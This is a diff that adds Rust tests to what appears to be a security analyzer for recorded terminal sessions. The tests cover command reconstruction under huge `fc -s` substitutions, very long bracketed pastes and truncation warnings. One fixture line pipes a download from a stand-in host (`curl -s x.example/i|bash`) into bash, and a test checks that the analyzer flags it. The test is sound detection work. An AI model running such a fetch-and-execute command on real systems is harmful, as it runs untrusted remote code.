@@ -186,3 +186,73 @@ fn output_full_of_a_typed_prompts_text_costs_no_more_than_other_output() {
     assert_eq!(commands, ["PS1='\\u@\\h:\\w:\\$ '", "python3 -c \"print('@:'*8192)\"", "exit"]);
     assert_eq!(collect.commands[1].prompt, "ssm-user@ip-10-0-0-1:/tmp:$ ");
 }
+
+/// `fc -s old=new …` is checked against the line bash printed by making each substitution:
+/// `a=aa` forty times asked for a terabyte (the analysis died, and the report with it). A
+/// text grown past any line the screen keeps is not the one printed: the line is kept as typed.
+#[test]
+fn a_typed_fc_s_cannot_make_the_analysis_run_out_of_memory() {
+    let subs = ["a=aa"; 40].join(" ");
+    let mut bytes = b"Script started on 2026-12-07 10:00:00+00:00 [COMMAND=\"x\"]\n".to_vec();
+    for line in [
+        "\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ echo a\r\n\x1b[?2004l\r",
+        "a\r\n",
+        &format!("\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ fc -s {subs}\r\n\x1b[?2004l\r"),
+        "echo aa\r\naa\r\n",
+        "\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ exit\r\n\x1b[?2004l\r",
+    ] {
+        bytes.extend_from_slice(line.as_bytes());
+    }
+    bytes
+        .extend_from_slice(b"Script done on 2026-12-07 10:01:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
+    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
+    let texts: Vec<&str> = report.commands.iter().map(|c| c.command.as_str()).collect();
+    assert_eq!(texts, ["echo a", format!("fc -s {subs}").as_str(), "exit"]);
+}
+
+/// A bracketed paste, as bash echoes it in a terminal taller than it is long: every row
+/// line-fed. `rows` rows, `curl … | bash` first.
+fn long_paste(rows: &[String]) -> Vec<u8> {
+    let mut bytes = b"Script started on 2026-12-07 10:00:00+00:00 [COMMAND=\"x\"]\n".to_vec();
+    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ \x1b[200~");
+    bytes.extend_from_slice(rows.join("\r\n").as_bytes());
+    bytes.extend_from_slice(b"\x1b[201~\r\n\x1b[?2004l\r");
+    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ exit\r\n\x1b[?2004l\r");
+    bytes
+        .extend_from_slice(b"Script done on 2026-12-07 10:01:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
+    bytes
+}
+
+/// The screen keeps a region's rows until it ends (readline moves back up to redraw them);
+/// past its bound (16 Ki rows, or 1 Mi cells of long rows) the oldest rows are sent on
+/// instead of dropped: a paste's first command once vanished behind the 64 rows after it.
+#[test]
+fn a_paste_longer_than_the_rows_kept_loses_none_of_them() {
+    for (count, width) in [(20_000, 0), (90, 16_000)] {
+        let mut rows = vec!["curl -s x.example/i|bash".to_string()];
+        rows.extend((0..count).map(|i| format!("echo {i}{}", "x".repeat(width))));
+        let bytes = long_paste(&rows);
+        for chunk in [7, 4096] {
+            let (_, got) = reconstruct(&bytes, chunk);
+            let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
+            let mut want: Vec<&str> = rows.iter().map(String::as_str).collect();
+            want.push("exit");
+            assert_eq!(texts.len(), want.len(), "{count} rows of {width} (chunk {chunk})");
+            assert!(texts == want, "{count} rows of {width} (chunk {chunk}): first {:?}", texts[0]);
+        }
+        let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
+        assert!(report.findings.iter().any(|f| f.rule_id == "SA-CMD-040"), "{count} rows");
+    }
+}
+
+/// The shell keeps a region's rows up to 4 MiB: a longer paste's last rows are not read, and
+/// the report says so (nothing is dropped silently).
+#[test]
+fn a_paste_past_what_the_shell_keeps_says_what_was_not_read() {
+    let rows: Vec<String> = (0..200_000).map(|i| format!("echo {i} padding padding")).collect();
+    let report = Analyzer::default().analyze_bytes(&long_paste(&rows), Input::default());
+    assert_eq!(report.commands[0].command, "echo 0 padding padding");
+    let note = report.stats.parse_warnings.iter().find(|w| w.contains("were not read"));
+    assert!(note.is_some_and(|n| n.contains("more than 4194304 bytes")), "{:?}", note);
+    assert!(report.commands.len() < rows.len(), "the rows past the bound are not commands");
+}
